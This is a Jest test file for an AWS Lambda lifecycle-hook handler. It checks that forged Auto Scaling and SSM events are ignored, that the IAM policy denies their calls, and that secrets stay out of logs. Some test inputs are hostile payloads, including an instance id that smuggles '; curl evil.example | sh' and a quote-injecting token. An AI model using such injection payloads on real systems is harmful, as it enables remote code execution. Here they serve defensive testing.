// A forged event is stopped twice: the handler makes no AWS call for an event
// that does not name its own group, hook and document, and the role's policy
// would refuse the call it would have made. The handler runs with the
// environment the construct synthesizes, and each AWS call it makes is checked
// against the role's synthesized statements.
import { AutoScalingClient, CompleteLifecycleActionCommand, RecordLifecycleActionHeartbeatCommand } from '@aws-sdk/client-auto-scaling';
import {
  DescribeInstanceInformationCommand,
  ListCommandsCommand,
  SendCommandCommand,
  SSMClient,
} from '@aws-sdk/client-ssm';
import { mockClient } from 'aws-sdk-client-mock';
import { ACCOUNT, HookTemplate, hookTemplates, REGION } from './hook-template';
import { Authorization, evaluateCall, Statement } from './iam-evaluator';
import type * as HandlerModule from '../../src/handler/lifecycle-command.lambda';
import { createActionTable, LocalDynamoDb, startDynamoDb } from '../support/dynalite';

const autoScaling = mockClient(AutoScalingClient);
const ssm = mockClient(SSMClient);
let db: LocalDynamoDb;
let handler: typeof HandlerModule.handler;

const templates = hookTemplates();
const OWN_INSTANCE = 'i-0123456789abcdef0';
const OTHER_INSTANCE = 'i-0fedcba987654321f';
const OTHER_GROUP = 'other-fleet';
const TOKEN = '5b0a4b6e-6f6b-4e1c-9d2a-0a1b2c3d4e5f';
const COMMAND = '0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0';
/** Stands for secrets in notification metadata and in command parameters and output. */
const SECRET = 'db-password=hunter2';

/** The IAM authorizations an SDK call needs, in a world where each instance carries its group's tag. */
function authorizations(call: { command: string; input: any }, instanceGroups: Record<string, string>): Authorization[] {
  const arn = (service: string, resource: string, account = ACCOUNT) => `arn:aws:${service}:${REGION}:${account}:${resource}`;
  switch (call.command) {
    case 'SendCommandCommand': {
      const document: string = call.input.DocumentName;
      // Documents AWS owns have no account in their ARN.
      const documentArn = arn('ssm', `document/${document}`, document.startsWith('AWS-') ? '' : ACCOUNT);
      return [
        { action: 'ssm:SendCommand', resource: documentArn },
        ...(call.input.InstanceIds as string[]).map((id) => ({
          action: 'ssm:SendCommand',
          resource: arn('ec2', `instance/${id}`),
          context: { 'ssm:resourceTag/aws:autoscaling:groupName': instanceGroups[id] },
        })),
      ];
    }
    case 'ListCommandsCommand': return [{ action: 'ssm:ListCommands', resource: '*' }];
    case 'DescribeInstanceInformationCommand': return [{ action: 'ssm:DescribeInstanceInformation', resource: '*' }];
    case 'CompleteLifecycleActionCommand':
    case 'RecordLifecycleActionHeartbeatCommand':
      return [{
        action: `autoscaling:${call.command.replace(/Command$/, '')}`,
        resource: arn('autoscaling', `autoScalingGroup:6f1e2d3c-4b5a-4978-8796-a5b4c3d2e1f0:autoScalingGroupName/${call.input.AutoScalingGroupName}`),
      }];
    case 'PutItem':
    case 'GetItem':
    case 'UpdateItem':
    case 'Query':
      return [{ action: `dynamodb:${call.command}`, resource: arn('dynamodb', `table/${call.input.TableName}`) }];
    default: throw new Error(`no IAM mapping for ${call.command}`);
  }
}

/** The SSM and Auto Scaling calls the handler made (mocked), and the DynamoDB requests dynalite received since `from`. */
function sdkCalls(from = dynamoDbMark) {
  return [
    ...[...ssm.calls(), ...autoScaling.calls()].map((c) => ({ command: c.args[0].constructor.name, input: (c.args[0] as any).input })),
    ...db.operations.slice(from).map((operation, n) => ({ command: operation, input: { TableName: db.tables[from + n] } })),
  ];
}
let dynamoDbMark = 0;

beforeAll(async () => {
  db = await startDynamoDb();
  for (const t of Object.values(templates)) await createActionTable(db, t.environment.HOOK_ACTION_TABLE);
  // Loaded once the endpoint is set: the handler's clients are created when its modules load.
  // eslint-disable-next-line @typescript-eslint/no-require-imports
  handler = (require('../../src/handler/lifecycle-command.lambda') as typeof HandlerModule).handler;
});

afterAll(async () => {
  await db.stop();
});

describe.each(['OwnedGroupHooks/Bootstrap', 'ImportedGroupHooks/Drain'])('%s', (key) => {
  const t: HookTemplate = templates[key];
  const statements: Statement[] = [t.logicalId('HandlerPolicy/Resource'), t.logicalId('HandlerRole/DefaultPolicy/Resource')]
    .flatMap((id) => t.statements(id));
  const launch = t.environment.HOOK_TRANSITION === 'launch';
  const instanceGroups = { [OWN_INSTANCE]: t.groupName, [OTHER_INSTANCE]: OTHER_GROUP };
  const hookName = t.environment.HOOK_NAME;
  let logs: string[];

  const lifecycleEvent = (detail: Record<string, unknown> = {}) => ({
    'source': 'aws.autoscaling',
    'detail-type': launch ? 'EC2 Instance-launch Lifecycle Action' : 'EC2 Instance-terminate Lifecycle Action',
    'detail': {
      LifecycleActionToken: TOKEN,
      AutoScalingGroupName: t.groupName,
      LifecycleHookName: hookName,
      EC2InstanceId: OWN_INSTANCE,
      LifecycleTransition: launch ? 'autoscaling:EC2_INSTANCE_LAUNCHING' : 'autoscaling:EC2_INSTANCE_TERMINATING',
      NotificationMetadata: SECRET,
      ...detail,
    },
  });
  const statusEvent = (detail: Record<string, unknown> = {}) => ({
    'source': 'aws.ssm',
    'detail-type': 'EC2 Command Invocation Status-change Notification',
    'detail': { 'command-id': COMMAND, 'document-name': t.documentName, 'instance-id': OWN_INSTANCE, 'status': 'Success', ...detail },
  });

  beforeEach(() => {
    Object.assign(process.env, t.environment);
    autoScaling.reset();
    ssm.reset();
    ssm.on(DescribeInstanceInformationCommand).resolves({ InstanceInformationList: [{ InstanceId: OWN_INSTANCE, PingStatus: 'Online' }] });
    // Earlier commands of the document, whose parameters and output must not be logged.
    ssm.on(ListCommandsCommand).resolves({
      Commands: [{ CommandId: 'c0ffee00-0000-4000-8000-000000000000', Comment: `lifecycle-action ${SECRET}`, Parameters: { secret: [SECRET] } }],
    });
    ssm.on(SendCommandCommand).resolves({ Command: { CommandId: COMMAND, Parameters: { secret: [SECRET] }, Comment: `lifecycle-action ${TOKEN}` } });
    autoScaling.on(CompleteLifecycleActionCommand).resolves({});
    autoScaling.on(RecordLifecycleActionHeartbeatCommand).resolves({});
    dynamoDbMark = db.operations.length;
    logs = [];
    for (const level of ['log', 'info', 'warn', 'error', 'debug'] as const) {
      jest.spyOn(console, level).mockImplementation((...args: unknown[]) => { logs.push(JSON.stringify(args)); });
    }
    // The outcome lines (with their embedded metrics) go to stdout whole: they are logs too.
    jest.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
      logs.push(...String(chunk).split('\n').filter(Boolean));
      return true;
    });
  });

  afterEach(() => {
    jest.restoreAllMocks();
    // The secret never reaches the logs, whatever the event.
    expect(logs.join('\n')).not.toContain('hunter2');
  });

  test('its own lifecycle event: every call the handler makes is one the role allows', async () => {
    expect(await handler(lifecycleEvent(), { getRemainingTimeInMillis: () => 300_000 })).toBe('command-sent');
    const calls = sdkCalls();
    expect(calls.map((c) => c.command)).toEqual([
      ...(launch ? ['DescribeInstanceInformationCommand'] : []),
      'SendCommandCommand',
      'RecordLifecycleActionHeartbeatCommand',
      'PutItem',
      'UpdateItem',
    ]);
    for (const call of calls) expect(evaluateCall(statements, authorizations(call, instanceGroups))).toBe('allowed');
  });

  test('its own command\'s status: its action\'s record, then CompleteLifecycleAction on its group, which the role allows', async () => {
    // GIVEN the command sent for the action (its record holds the command id)
    await handler(lifecycleEvent(), { getRemainingTimeInMillis: () => 300_000 });
    ssm.resetHistory();
    autoScaling.resetHistory();
    dynamoDbMark = db.operations.length;
    // WHEN its status arrives
    expect(await handler(statusEvent())).toBe('completed');
    const calls = sdkCalls();
    expect(calls).toEqual([
      { command: 'CompleteLifecycleActionCommand', input: expect.objectContaining({ AutoScalingGroupName: t.groupName, LifecycleHookName: hookName, LifecycleActionToken: TOKEN }) },
      { command: 'Query', input: { TableName: t.environment.HOOK_ACTION_TABLE } },
      // The command's end, recorded once so that a repeated status event does not count it again.
      { command: 'UpdateItem', input: { TableName: t.environment.HOOK_ACTION_TABLE } },
    ]);
    for (const call of calls) expect(evaluateCall(statements, authorizations(call, instanceGroups))).toBe('allowed');
  });

  describe('a forged event makes no AWS call, and IAM would refuse the call it asks for', () => {
    test('a lifecycle event naming another group and its instance', async () => {
      const event = lifecycleEvent({ AutoScalingGroupName: OTHER_GROUP, EC2InstanceId: OTHER_INSTANCE });
      expect(await handler(event)).toBe('ignored');
      expect(sdkCalls()).toEqual([]);
      // Had it acted: the hook's document to that instance, then completing that group's action.
      expect(evaluateCall(statements, authorizations(
        { command: 'SendCommandCommand', input: { DocumentName: t.documentName, InstanceIds: [OTHER_INSTANCE] } }, instanceGroups))).toBe('implicitly denied');
      expect(evaluateCall(statements, authorizations(
        { command: 'CompleteLifecycleActionCommand', input: { AutoScalingGroupName: OTHER_GROUP } }, instanceGroups))).toBe('implicitly denied');
    });

    test('a status event naming AWS-RunShellScript', async () => {
      expect(await handler(statusEvent({ 'document-name': 'AWS-RunShellScript' }))).toBe('ignored');
      expect(sdkCalls()).toEqual([]);
      expect(evaluateCall(statements, authorizations(
        { command: 'SendCommandCommand', input: { DocumentName: 'AWS-RunShellScript', InstanceIds: [OWN_INSTANCE] } }, instanceGroups))).toBe('implicitly denied');
    });

    test.each<[string, Record<string, unknown>]>([
      ['another hook on the same group', { LifecycleHookName: 'other-hook' }],
      ['an instance id carrying a shell command', { EC2InstanceId: `${OWN_INSTANCE}; curl evil.example | sh` }],
      ['a token that is not a UUID', { LifecycleActionToken: `${TOKEN}" --comment "x` }],
      ['no group at all', { AutoScalingGroupName: undefined }],
    ])('a lifecycle event with %s', async (_name, detail) => {
      expect(await handler(lifecycleEvent(detail))).toBe('ignored');
      expect(sdkCalls()).toEqual([]);
      expect(logs).toHaveLength(1);
    });

    test('a lifecycle event from a source other than Auto Scaling', async () => {
      expect(await handler({ ...lifecycleEvent(), source: 'custom.attacker' })).toBe('ignored');
      expect(sdkCalls()).toEqual([]);
    });
  });

  test('the handler logs neither the event nor the command\'s parameters', async () => {
    await handler(lifecycleEvent(), { getRemainingTimeInMillis: () => 300_000 });
    await handler(statusEvent({ status: 'Failed' }));
    await handler(lifecycleEvent({ AutoScalingGroupName: OTHER_GROUP }));
    expect(logs.length).toBeGreaterThanOrEqual(3);
    const all = logs.join('\n');
    expect(all).not.toContain(TOKEN);
    expect(all).not.toContain('NotificationMetadata');
    expect(all).not.toContain('Parameters');
  });
});
